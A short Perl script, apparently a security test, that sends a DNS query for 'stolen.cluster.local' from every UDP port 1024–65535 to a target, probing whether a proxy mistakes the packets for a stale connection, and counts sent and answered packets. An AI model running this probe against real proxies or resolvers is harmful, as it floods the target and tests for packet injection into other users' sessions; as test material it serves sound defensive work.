# Sends a question to ADDRESS:53 from every port: one of them belonged to a connection of the proxy a moment ago, and
# a packet that looks like more of the same may be taken for it. Says how many were sent and how many answered.
use strict;
use warnings;
use Socket;

my $to = pack_sockaddr_in(53, inet_aton($ARGV[0]));
my $question = pack('n6', 7, 0x0100, 1, 0, 0, 0) . "\x06stolen\x07cluster\x05local\x00" . pack('n2', 1, 1);
my ($tried, $sent, @open) = (0, 0);
for my $port (1024 .. 65535) {
    socket my $socket, AF_INET, SOCK_DGRAM, 0 or die "socket: $!";
    bind $socket, pack_sockaddr_in($port, INADDR_ANY) or next;
    $tried++;
    defined send $socket, $question, 0, $to or next;
    $sent++;
    push @open, $socket if @open < 64;
}
my $answered = 0;
select undef, undef, undef, 0.5 if @open;
for my $socket (@open) {
    $answered++ if defined recv $socket, my ($answer), 512, MSG_DONTWAIT;
}
print "tried many\n" if $tried > 50_000;
print "sent $sent answered $answered\n";
